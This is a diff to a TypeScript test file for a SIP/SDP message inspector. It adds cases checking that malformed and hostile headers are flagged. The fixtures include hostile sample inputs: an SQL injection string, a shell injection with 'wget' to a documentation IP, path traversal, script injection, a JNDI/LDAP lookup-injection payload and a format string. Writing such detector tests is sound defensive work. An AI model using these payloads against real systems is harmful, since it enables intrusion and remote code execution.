@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { about, faults, lines, oddities, raw, read, request, str } from '../../test/messages.ts';
+import { createBodyPart, readBody } from './body.ts';
 import { inspect } from './inspect.ts';
 import {
   addOddity,
@@ -13,6 +14,7 @@ import {
   oddityCode,
   oddityGrade,
 } from './oddities.ts';
+import { createSdp } from './sdpview.ts';
 import { createMessage } from './sip.ts';
 
 const INVITE = 'INVITE sip:bob@example.com SIP/2.0';
@@ -21,6 +23,15 @@ const digest = 'Digest username="a",realm="r",nonce="n",uri="sip:r",response="01
 const answer = (start: string, changes: Readonly<Record<string, string | undefined>> = {}): string =>
   request({ 'Max-Forwards': undefined, Contact: undefined, CSeq: '1 INVITE', ...changes }, start);
 const many = (n: number, line: string): string => Array.from({ length: n }, () => line).join('\r\n');
+
+const withBody = (changes: Readonly<Record<string, string | undefined>>, body: string): string =>
+  request({ 'Content-Type': 'application/sdp', ...changes }, INVITE, body);
+/** An INVITE with a description in which `from` is written as `to`. */
+const sdp = (from: string, to: string): string => {
+  const whole = lines('v=0', 'o=- 1 2 IN IP4 192.0.2.1', 's=-', 'c=IN IP4 192.0.2.1', 't=0 0', 'm=audio 4000 RTP/AVP 0');
+  assert.ok(whole.includes(from), from);
+  return withBody({}, whole.replace(from, to));
+};
 
 /** For each oddity a message that has it, and the bytes it is about. */
 const SHOWN: Readonly<Record<OddityName, readonly [message: string, about: string | RegExp]>> = {
@@ -100,6 +111,7 @@ const SHOWN: Readonly<Record<OddityName, readonly [message: string, about: strin
   'address-spaces': [request({ To: '< sip:a@b >' }), '< sip:a@b >'],
   'address-junk': [request({ To: '<sip:a@b> x' }), 'x'],
   'display-name-unquoted': [request({ To: 'Mr. (A) <sip:a@b>' }), 'Mr. (A)'],
+  'display-name-uri': [request({ To: '"<sip:x@y>" <sip:a@b>' }), '"<sip:x@y>"'],
   'quote-unterminated': [request({ To: '"Bob <sip:a@b>' }), '"Bob <sip:a@b>'],
   'parameter-empty': [request({ To: '<sip:a@b>;;x' }), ';'],
   'parameter-bad': [request({ To: '<sip:a@b>;x=(y)' }), 'x=(y)'],
@@ -130,16 +142,65 @@ const SHOWN: Readonly<Record<OddityName, readonly [message: string, about: strin
   'digest-incomplete': [request({ Authorization: 'Digest username="a"' }), 'Digest username="a"'],
   'digest-bad': [request({ Authorization: `${digest}, x` }), 'x'],
   'digest-response-bad': [request({ Authorization: digest.replace('abcdef"', '"') }), '0123456789abcdef0123456789'],
-  'digest-username-hostile': [request({ Authorization: digest.replace('"a"', '"a\' OR 1=1 --"') }), "a' OR 1=1 --"],
+  'sql-injection': [request({ Authorization: digest.replace('"a"', '"a\' OR 1=1 --"') }), "a' OR 1=1 --"],
+  'shell-injection': [request({ 'X-Name': 'a; wget http://192.0.2.66/x' }), 'a; wget http://192.0.2.66/x'],
+  'path-traversal': [request({ To: '<sip:../../etc/x@b>' }), '../../etc/x'],
+  'markup-injection': [request({ To: '"<script>x" <sip:a@b>' }), '<script>x'],
+  'lookup-injection': [request({ 'X-Api': '\x24{jndi:ldap://192.0.2.66/a}' }), '\x24{jndi:ldap://192.0.2.66/a}'],
+  'format-string': [request({ 'User-Agent': '%s%s%n' }), '%s%s%n'],
+  'overflow-pattern': [request({ Subject: 'AB'.repeat(600) }), /^(AB)+$/],
+  'escape-line-end': [request({ To: '<sip:a%0d%0aVia:x@b>' }), '%0d'],
+  'escape-control': [request({ To: '<sip:a%1b@b>' }), '%1b'],
+  'bidi-control': [request({ Subject: 'a\xe2\x80\xaeb' }), '\u202e'],
+  'invisible-character': [request({ Subject: 'a\xe2\x80\x8bb' }), '\u200b'],
+  'header-long': [request({ 'X-A': 'word '.repeat(300) }), /^word/],
+  'content-type-long': [request({ 'Content-Type': `text/plain;x=${'ab1'.repeat(90)}` }), /^text/],
+  'branch-long': [request({ Via: `SIP/2.0/UDP a;branch=z9hG4bK${'12ab5'.repeat(60)}` }), /^z9h/],
+  'max-forwards-zero': [request({ 'Max-Forwards': '0' }), '0'],
+  'max-forwards-high': [request({ 'Max-Forwards': '200' }), '200'],
+  'extension-required': [request({ 'Proxy-Require': 'foo' }), 'foo'],
   'token-bad': [request({ Allow: 'IN(VITE' }), 'IN(VITE'],
   'parameter-duplicate': [request({ Event: 'dialog;id=1;ID=2' }), 'ID'],
+  'body-encoded': [withBody({ 'Content-Encoding': 'gzip' }, 'x'), 'x'],
+  'multipart-bad': [withBody({ 'Content-Type': 'multipart/mixed' }, 'x'), 'x'],
+  'sdp-several': [
+    withBody(
+      { 'Content-Type': 'multipart/mixed;boundary=x' },
+      `${many(2, '--x\r\nContent-Type: application/sdp\r\n\r\nv=0')}\r\n--x--\r\n`,
+    ),
+    'v=0\r\n',
+  ],
+  'sdp-untyped': [withBody({ 'Content-Type': undefined }, 'v=0\r\n'), 'v=0\r\n'],
+  'sdp-version': [sdp('v=0', 'v=1'), 'v=1'],
+  'sdp-missing-origin': [sdp('o=- 1 2 IN IP4 192.0.2.1\r\n', ''), /^v=0/],
+  'sdp-missing-name': [sdp('s=-\r\n', ''), /^v=0/],
+  'sdp-missing-time': [sdp('t=0 0\r\n', ''), /^v=0/],
+  'sdp-origin-bad': [sdp('o=- 1 2', 'o=- 1 b'), '- 1 b IN IP4 192.0.2.1'],
+  'sdp-order': [sdp('s=-\r\n', 't=0 0\r\ns=-\r\n'), 's=-'],
+  'sdp-line-bad': [sdp('s=-', 's-'), 's-'],
+  'sdp-line-long': [sdp('s=-', `s=${'x'.repeat(1000)}`), /^s=xxx/],
+  'sdp-control-byte': [sdp('s=-', 's=a\tb'), '\t'],
+  'sdp-media-bad': [sdp('m=audio 4000 RTP/AVP 0', 'm=audio 4000 RTP/AVP'), 'audio 4000 RTP/AVP'],
+  'sdp-media-many': [sdp('m=audio', `${many(16, 'm=audio 0 RTP/AVP 0')}\r\nm=audio`), 'audio 4000 RTP/AVP 0'],
+  'sdp-formats-many': [sdp('RTP/AVP 0', `RTP/AVP${' 0'.repeat(25)}`), /^audio 4000/],
+  'sdp-port-bad': [sdp('4000', '65536'), '65536'],
+  'sdp-format-bad': [sdp('RTP/AVP 0', 'RTP/AVP 128'), 'audio 4000 RTP/AVP 128'],
+  'sdp-address-bad': [sdp('c=IN IP4 192.0.2.1', 'c=IN IP4 192.0.2.256'), 'IN IP4 192.0.2.256'],
+  'sdp-connections': [sdp('t=0 0', 'c=IN IP4 192.0.2.2\r\nt=0 0'), 'IN IP4 192.0.2.2'],
+  'sdp-connection-missing': [sdp('c=IN IP4 192.0.2.1\r\n', ''), 'audio 4000 RTP/AVP 0'],
+  'sdp-attribute-bad': [sdp('RTP/AVP 0', 'RTP/AVP 0\r\na=rtpmap:x'), 'rtpmap:x'],
+  // Seen by track, which remembers the version before: track/media.test.ts.
+  'sdp-version-decrease': [sdp('v=0', 'v=0'), ''],
 };
 
 /** Seen by `inspect` only. */
 const DEEP = new Set<OddityName>(['token-bad', 'parameter-duplicate']);
+/** Seen by track. */
+const LATER = new Set<OddityName>(['sdp-version-decrease']);
 
 describe('each oddity', () => {
   for (const name of ODDITY_NAMES) {
+    if (LATER.has(name)) continue;
     const [message, expected] = SHOWN[name];
     test(name, () => {
       const m = read(message);
@@ -148,6 +209,7 @@ describe('each oddity', () => {
         assert.equal(str(m, deep!), expected);
         return;
       }
+      if (/^(sdp|body|multipart)-/.test(name)) readBody(m, createBodyPart(), createSdp(), false);
       const found = about(m, name);
       if (typeof expected === 'string') assert.equal(found, expected);
       else assert.match(found, expected);
